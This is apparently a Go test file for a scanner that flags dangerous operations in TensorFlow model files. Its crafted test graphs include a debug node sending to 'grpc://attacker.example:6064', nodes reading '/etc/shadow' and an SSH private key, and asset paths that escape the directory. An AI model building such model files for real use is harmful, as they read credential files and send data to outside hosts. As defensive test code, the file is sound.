package tffmt

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/rules"
)

type want struct {
	op   string
	rule string
	sev  core.Severity
	frag []string
}

// The fixtures are made by testdata/gen.sh with protoc.
func TestFixtures(t *testing.T) {
	cases := []struct {
		path     string
		kind     kind
		findings []want
		children []string // Keras metadata blobs handed out
	}{
		{path: "benign_keras/saved_model.pb", kind: kindSavedModel},
		{path: "benign_keras/fingerprint.pb", kind: kindFingerprint},
		{path: "frozen/frozen_graph.pb", kind: kindGraphDef},
		{path: "tf1/model.ckpt.meta", kind: kindMetaGraph},
		{path: "readfile_function/saved_model.pb", kind: kindSavedModel, findings: []want{
			{"ReadFile", rules.TFFileOp, core.High, []string{`node "ReadFile" in function "__inference_copy_file_42"`}},
			{"WriteFile", rules.TFFileOp, core.High, []string{"__inference_copy_file_42"}},
		}},
		{path: "pyfunc/saved_model.pb", kind: kindSavedModel, findings: []want{
			{"EagerPyFunc", rules.TFPythonOp, core.Medium, []string{"__inference_py_step_7"}},
		}},
		{path: "custom_op/saved_model.pb", kind: kindSavedModel, findings: []want{
			{"SentencepieceOp", rules.TFCustomOp, core.Medium, []string{"__inference_tokenize_5"}},
		}},
		{path: "keras_lambda/keras_metadata.pb", kind: kindKerasMetadata, children: []string{"root", "root.layer-0"}},
		{path: "keras_objgraph/saved_model.pb", kind: kindSavedModel, children: []string{"object_graph/node-0", "object_graph/node-1"}},
	}
	for _, c := range cases {
		t.Run(c.path, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata", c.path))
			if err != nil {
				t.Fatal(err)
			}
			// recognised as what it is, under its own name and under a
			// name that says nothing
			for _, name := range []string{filepath.Base(c.path), "blob"} {
				b := &core.Blob{Source: name, Name: name, R: bytes.NewReader(data), Size: int64(len(data))}
				if k := sniff(data, b); k != c.kind {
					t.Fatalf("named %s: recognised as %q, want %q", name, k, c.kind)
				}
			}
			res := scanBytes(t, filepath.Base(c.path), data)
			if len(res.s.Scanned) != 1 || res.err != nil || len(res.s.Problems) > 0 {
				t.Fatalf("scan:\n%s", res.dump())
			}
			for _, w := range c.findings {
				res.expect(t, w.op, w.rule, w.sev, w.frag...)
			}
			if len(res.s.Findings) != len(c.findings) {
				t.Fatalf("got %d findings, want %d:\n%s", len(res.s.Findings), len(c.findings), res.dump())
			}
			var names []string
			for _, ch := range res.children {
				names = append(names, ch.Name)
				if ch.Role != core.RoleKerasConfig || ch.Size == 0 {
					t.Fatalf("child %s: role %q size %d", ch.Name, ch.Role, ch.Size)
				}
				head := make([]byte, 1)
				if _, err := ch.R.ReadAt(head, 0); err != nil || head[0] != '{' {
					t.Fatalf("child %s does not start with a JSON object", ch.Name)
				}
				if !strings.HasPrefix(ch.Source, filepath.Base(c.path)+":") {
					t.Fatalf("child source %q", ch.Source)
				}
			}
			if strings.Join(names, ",") != strings.Join(c.children, ",") {
				t.Fatalf("children %v, want %v", names, c.children)
			}
		})
	}
}

// The Lambda layer's JSON reaches the Keras analysis intact.
func TestKerasMetadataChildContent(t *testing.T) {
	data, err := os.ReadFile("testdata/keras_lambda/keras_metadata.pb")
	if err != nil {
		t.Fatal(err)
	}
	res := scanBytes(t, "keras_metadata.pb", data)
	ch := res.children[1]
	buf := make([]byte, ch.Size)
	if _, err := ch.R.ReadAt(buf, 0); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(buf), `"class_name": "Lambda"`) || !strings.HasSuffix(string(buf), "}") {
		t.Fatalf("child content %q", buf)
	}
	if ch.Source != "keras_metadata.pb:root.layer-0" {
		t.Fatalf("source %q", ch.Source)
	}
}

func TestCraftedOps(t *testing.T) {
	fn := func(name string, nodes ...[]byte) []byte { return functionDef(name, nodes...) }
	cases := []struct {
		name  string
		graph []byte
		want  []want
	}{
		{"modelaudit-style minimal SavedModel", graphDef([][]byte{nodeDef("Const", "Const"), nodeDef("bad", "PyFunc",
			nodeAttr("token", avString("pyfunc_0")))}),
			[]want{{"PyFunc", rules.TFPythonOp, core.Medium, []string{`node "bad" in the graph`}}}},
		{"op named only by a function attribute", graphDef([][]byte{nodeDef("call", "StatefulPartitionedCall",
			nodeAttr("f", avFuncRef("ReadFile")))}),
			[]want{{"ReadFile", rules.TFFileOp, core.High, []string{`called by attr "f" of node "call" in the graph`}}}},
		{"function attribute in a list", graphDef([][]byte{nodeDef("case", "Case",
			nodeAttr("branches", cat(pMsg(avList, pMsg(lvFunc, pStr(nalName, "__inference_ok_1")),
				pMsg(lvFunc, pStr(nalName, "WriteFile"))))))}, fn("__inference_ok_1", nodeDef("i", "Identity"))),
			[]want{{"WriteFile", rules.TFFileOp, core.High, []string{`attr "branches"`}}}},
		{"PrintV2 to a file", graphDef([][]byte{nodeDef("p", "PrintV2",
			nodeAttr("output_stream", avString("file:///tmp/leak.txt")))}),
			[]want{{"PrintV2", rules.TFFileOp, core.High, []string{"file:///tmp/leak.txt"}}}},
		{"PrintV2 to stderr is ordinary", graphDef([][]byte{nodeDef("p", "PrintV2",
			nodeAttr("output_stream", avString("stderr")))}), nil},
		{"PrintV2 condition through a function attribute", graphDef([][]byte{nodeDef("call", "PartitionedCall",
			nodeAttr("f", avFuncRef("PrintV2", attrEntryAt(nalAttr, "output_stream", avString("file:///x")))))}),
			[]want{{"PrintV2", rules.TFFileOp, core.High, []string{"file:///x"}}}},
		{"DebugIdentity with a grpc URL", graphDef([][]byte{nodeDef("d", "DebugIdentity",
			nodeAttr("debug_urls", avStrings("grpc://attacker.example:6064")))}),
			[]want{{"DebugIdentity", rules.TFFileOp, core.High, []string{"grpc://attacker.example:6064"}}}},
		{"DebugIdentity without URLs is a note", graphDef([][]byte{nodeDef("d", "DebugIdentity")}),
			[]want{{"DebugIdentity", rules.TFFileOp, core.Low, nil}}},
		{"ImmutableConst of a memmapped region", graphDef([][]byte{nodeDef("c", "ImmutableConst",
			nodeAttr("memory_region_name", avString("memmapped_package://dense_kernel")))}),
			[]want{{"ImmutableConst", rules.TFFileOp, core.Low, nil}}},
		{"ImmutableConst of a file", graphDef([][]byte{nodeDef("c", "ImmutableConst",
			nodeAttr("memory_region_name", avString("/etc/shadow")))}),
			[]want{{"ImmutableConst", rules.TFFileOp, core.High, []string{"/etc/shadow"}}}},
		{"DecodeProtoV2 with the built-in pool", graphDef([][]byte{nodeDef("d", "DecodeProtoV2",
			nodeAttr("descriptor_source", avString("local://")))}), nil},
		{"DecodeProtoV2 reading a descriptor file", graphDef([][]byte{nodeDef("d", "DecodeProtoV2",
			nodeAttr("descriptor_source", avString("/home/user/.ssh/id_rsa")))}),
			[]want{{"DecodeProtoV2", rules.TFFileOp, core.High, nil}}},
		{"the last op field wins", graphDef([][]byte{cat(nodeDef("n", "Const"), pStr(ndOp, "ReadFile"))}),
			[]want{{"ReadFile", rules.TFFileOp, core.High, nil}}},
		{"function calls by op name are not custom ops", graphDef([][]byte{nodeDef("c", "__inference_f_3")},
			fn("__inference_f_3", nodeDef("m", "MatMul"))), nil},
		{"a call to a missing function is a custom op", graphDef([][]byte{nodeDef("c", "__inference_gone_9")}),
			[]want{{"__inference_gone_9", rules.TFCustomOp, core.Medium, nil}}},
		{"control characters in names are escaped", graphDef(nil, fn("f\x1b[2J", nodeDef("n\n", "Evil\x1b[31m"))),
			[]want{{`"Evil\x1b[31m"`, rules.TFCustomOp, core.Medium, []string{`node "n\n" in function "f\x1b[2J"`}}}},
		{"runtime-internal op", graphDef([][]byte{nodeDef("s", "_Send")}),
			[]want{{"_Send", rules.TFInternalOp, core.Low, nil}}},
		{"network op", graphDef([][]byte{nodeDef("ds", "DataServiceDatasetV4")}),
			[]want{{"DataServiceDatasetV4", rules.TFNetworkOp, core.High, nil}}},
		{"checkpoint ops are ordinary", graphDef(nil, fn("__inference__traced_save_5", nodeDef("s", "SaveV2"),
			nodeDef("m", "MergeV2Checkpoints"), nodeDef("j", "StringJoin"), nodeDef("f", "ShardedFilename"),
			nodeDef("r", "StaticRegexFullMatch"), nodeDef("v", "VarHandleOp"), nodeDef("rs", "RestoreV2"))), nil},
		{"one finding per op, nodes counted", graphDef([][]byte{nodeDef("a", "ReadFile"), nodeDef("b", "ReadFile")},
			fn("__inference_x_1", nodeDef("c", "ReadFile"))),
			[]want{{"ReadFile", rules.TFFileOp, core.High, []string{"3 nodes", `"a" in the graph`, "__inference_x_1"}}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := scanBytes(t, "saved_model.pb", savedModel(c.graph))
			for _, w := range c.want {
				res.expect(t, w.op, w.rule, w.sev, w.frag...)
			}
			if len(res.s.Findings) != len(c.want) || res.err != nil {
				t.Fatalf("got:\n%s", res.dump())
			}
		})
	}
}

// A GraphDef serialized in a string constant (what DatasetFromGraph runs)
// is scanned as a graph.
func TestGraphInStringTensor(t *testing.T) {
	inner := graphDef([][]byte{nodeDef("w", "WriteFile")})
	g := graphDef([][]byte{nodeDef("graph_def", "Const", nodeAttr("value", avStringTensor([]byte("vocab"), inner))),
		nodeDef("ds", "DatasetFromGraph")})
	res := scanBytes(t, "model.pb", savedModel(g))
	res.expect(t, "WriteFile", rules.TFFileOp, core.High, `a graph serialized in attr "value" of node "graph_def"`)

	// nesting is bounded
	deep := inner
	for i := 0; i < maxNestedGraphs+1; i++ {
		deep = graphDef([][]byte{nodeDef("c", "Const", nodeAttr("value", avStringTensor(deep)))})
	}
	res = scanBytes(t, "model.pb", savedModel(deep))
	if f := res.find("WriteFile"); f != nil {
		t.Fatalf("a graph nested beyond the limit was scanned:\n%s", res.dump())
	}
	if !hasRule(res, rules.ScanIncomplete) || !hasProblem(res, core.CatBudget) {
		t.Fatalf("no budget report:\n%s", res.dump())
	}
}

// A repeated graph_def field is merged by protobuf parsers: both are
// scanned. So is a second meta graph.
func TestEveryGraphOccurrenceIsScanned(t *testing.T) {
	mg := cat(pMsg(mgGraphDef, graphDef([][]byte{nodeDef("a", "Const")})),
		pMsg(mgGraphDef, graphDef([][]byte{nodeDef("b", "ReadFile")})))
	res := scanBytes(t, "saved_model.pb", cat(pVarint(1, 1), pMsg(smMetaGraphs, mg)))
	res.expect(t, "ReadFile", rules.TFFileOp, core.High, `"b" in the graph`)

	two := savedModel(graphDef([][]byte{nodeDef("a", "Const")}), graphDef([][]byte{nodeDef("p", "PyFunc")}))
	res = scanBytes(t, "saved_model.pb", two)
	res.expect(t, "PyFunc", rules.TFPythonOp, core.Medium, "the graph of meta graph 1")
}

func TestAssetPaths(t *testing.T) {
	for name, bad := range map[string]bool{"vocab.txt": false, "sub/vocab.txt": false, "../../etc/passwd": true,
		"/etc/passwd": true, `..\..\boot.ini`: true, "C:/Windows/win.ini": true, "a/../../b": true} {
		mg := cat(pMsg(mgGraphDef, graphDef([][]byte{nodeDef("a", "Const")})),
			pMsg(mgAssetFileDef, pMsg(assetTensorInfo, pStr(1, "Const:0")), pStr(assetFilename, name)))
		res := scanBytes(t, "saved_model.pb", cat(pVarint(1, 1), pMsg(smMetaGraphs, mg)))
		f := res.find("AssetFileDef")
		if bad != (f != nil) {
			t.Fatalf("%q: finding %v, want %v:\n%s", name, f != nil, bad, res.dump())
		}
		if f != nil && (f.Rule != rules.TFAssetPath || f.Severity != core.High || !strings.Contains(f.Evidence, name[:2])) {
			t.Fatalf("%q: %+v", name, f)
		}
	}
}

func TestCheckpointFilesAreSkipped(t *testing.T) {
	index := make([]byte, 100)
	copy(index[92:], []byte{0x57, 0xfb, 0x80, 0x8b, 0x24, 0x75, 0x47, 0xdb})
	for name, data := range map[string][]byte{
		"variables/variables.index":                   index,
		"variables/variables.data-00000-of-00001":     []byte("\x00\x00\x80?raw float tensor bytes"),
		"model.ckpt-1000.data-00001-of-00002":         {1, 2, 3},
		"something.index (content decides, not name)": index,
	} {
		res := scanBytes(t, name, data)
		if len(res.s.Skips) != 1 || res.s.Skips[0].Description != skipCheckpoint || len(res.s.Findings) > 0 ||
			len(res.s.Scanned) > 0 {
			t.Fatalf("%s:\n%s", name, res.dump())
		}
	}
}

// Files named like TensorFlow's protobufs whose content is not one are an
// error, not a silent skip.
func TestNamedFileThatDoesNotParse(t *testing.T) {
	for _, name := range []string{"saved_model.pb", "keras_metadata.pb", "fingerprint.pb"} {
		res := scanBytes(t, name, []byte("this is not a protobuf at all"))
		if len(res.s.Problems) != 1 || res.s.Problems[0].Category != core.CatMagic || len(res.s.Findings) > 0 {
			t.Fatalf("%s:\n%s", name, res.dump())
		}
	}
}

func hasRule(r *result, rule string) bool {
	for _, f := range r.s.Findings {
		if f.Rule == rule {
			return true
		}
	}
	return false
}

func hasProblem(r *result, cat string) bool {
	for _, p := range r.s.Problems {
		if p.Category == cat {
			return true
		}
	}
	return false
}

func TestTablesParse(t *testing.T) {
	tb, err := loadTables()
	if err != nil {
		t.Fatal(err)
	}
	if len(tb.stock) < 1600 || len(tb.internal) < 50 || len(tb.risk) != 123 {
		t.Fatalf("stock %d, internal %d, risk %d", len(tb.stock), len(tb.internal), len(tb.risk))
	}
	for _, op := range []string{"SaveV2", "RestoreV2", "MergeV2Checkpoints", "StringJoin", "ShardedFilename",
		"StaticRegexFullMatch", "Save", "SaveSlices", "Restore", "RestoreSlice"} {
		if r := tb.risk[op]; r == nil || r.Sev != core.SeverityNone {
			t.Errorf("%s must be known and never flagged", op)
		}
	}
	for op, sev := range map[string]core.Severity{"PyFunc": core.Medium, "EagerPyFunc": core.Medium,
		"PyFuncStateless": core.Medium, "ReadFile": core.High, "WriteFile": core.High, "MatchingFiles": core.High} {
		if r := tb.risk[op]; r == nil || r.Sev != sev {
			t.Errorf("%s: %+v, want %s", op, r, sev)
		}
	}
	for _, bad := range []string{"op\trule\tseverity\twhen\totherwise\tnote\nNoSuchOp\tfile\tHIGH\talways\t-\tx\n",
		"op\trule\tseverity\twhen\totherwise\tnote\nReadFile\tbogus\tHIGH\talways\t-\tx\n",
		"op\trule\tseverity\twhen\totherwise\tnote\nReadFile\tfile\tHIGH\tattr-url:\t-\tx\n",
		"op\trule\tseverity\twhen\totherwise\tnote\nReadFile\tfile\tSEVERE\talways\t-\tx\n"} {
		if _, err := parseTables("## [core]\nReadFile\n", bad); err == nil {
			t.Errorf("accepted %q", bad)
		}
	}
}
